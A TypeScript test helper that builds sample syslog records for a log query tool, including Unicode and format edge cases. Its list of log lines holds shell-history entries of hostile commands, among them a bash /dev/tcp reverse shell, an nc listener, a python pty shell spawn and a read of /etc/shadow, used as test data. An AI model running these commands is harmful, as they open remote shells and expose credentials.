// Records for the query tests: the syslog and body vectors, and lines as servers write them.
import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import type { Fields, LogRecord } from '../../src/model/record.ts'

export function sample(message: string, more: Partial<LogRecord> = {}): LogRecord {
  return {
    id: '',
    receivedAt: Date.UTC(2026, 10, 23, 12),
    peer: '192.0.2.7',
    transport: 'udp',
    facility: 4,
    severity: 6,
    hostname: 'web01',
    appName: 'sshd',
    message,
    format: 'rfc3164',
    fields: {},
    problems: [],
    ...more,
  }
}

const lines = [
  'Failed password for invalid user oracle from 203.0.113.9 port 50222 ssh2',
  'root : TTY=pts/0 ; PWD=/home/ops ; USER=root ; COMMAND=/usr/bin/cat /etc/shadow',
  'HISTORY:PID=4712 PPID=4711 SID=4712 USER=root CMD=chattr +i /etc/resolv.conf',
  'HISTORY:PID=4712 PPID=4711 SID=4712 USER=root CMD=nc -lvp 4444',
  'HISTORY:PID=4712 PPID=4711 SID=4712 USER=wang CMD=bash -i >& /dev/tcp/203.0.113.9/443 0>&1',
  'HISTORY:PID=9 PPID=8 SID=9 USER=root CMD=python -c \'import pty; pty.spawn("/bin/sh")\'',
  'HISTORY:PID=9 PPID=8 SID=9 USER=root CMD=python3 -m http.server 8000',
  '[12345.678901] TCP: request_sock_TCP: Possible SYN flooding on port 443. Sending cookies.',
  '198.51.100.7 - - [23/Nov/2026:11:58:01 +0000] "GET /a?id=1 HTTP/1.1" 404 153 "-" "curl/8.5.0"',
  '订单号 20261123 支付失败，用户：王芳',
  'サーバーを再起動しました',
  'cafe\u0301 ΟΔΟΣ Straße İstanbul 5\u212a',
  'version 1.2.3.4.5 at 10.0.0.1:8080, a.b.c.d',
  'tab\tand  blanks\r\nand lines',
  '',
]

const fixture = (name: string) =>
  readFileSync(join(import.meta.dirname, '..', 'fixtures', name), 'utf8')
    .split('\n')
    .filter(line => line !== '')
    .map(line => JSON.parse(line) as { readonly input?: Header; readonly expect: Header | Fields })

type Header = {
  readonly hostname?: string | null
  readonly app_name?: string | null
  readonly message?: string
  readonly severity?: number | null
  readonly structured_data?: LogRecord['structuredData'] | null
}

export function sampleRecords(): LogRecord[] {
  const bodies = fixture('bodies-dev.jsonl').map(({ input = {}, expect }) => fromHeader(input, expect as Fields))
  const headers = fixture('syslog-dev.jsonl').map(({ expect }) => fromHeader(expect as Header, {}))
  return [...bodies, ...headers, ...lines.map(line => sample(line)), ...decoded()]
}

/** Values that do not stand in the message as they are. */
function decoded(): LogRecord[] {
  return [
    sample('type=PROCTITLE msg=audit(1.2:3): proctitle=2F62696E2F6C73002D6C61', {
      fields: { 'process.command_line': '/bin/ls -la', 'event.action': 'proctitle' },
    }),
    sample('xaliceb logged in', { fields: { 'user.name': 'alice', 'process.args': ['-l', 'chattr'] } }),
    sample('', { structuredData: { 'ex@32473': { k: 'v', again: ['one', 'two ]"'] } } }),
  ]
}

function fromHeader(header: Header, fields: Fields): LogRecord {
  return sample(header.message ?? '', {
    hostname: header.hostname ?? undefined,
    appName: header.app_name ?? undefined,
    severity: header.severity ?? 6,
    structuredData: header.structured_data ?? undefined,
    fields,
  })
}
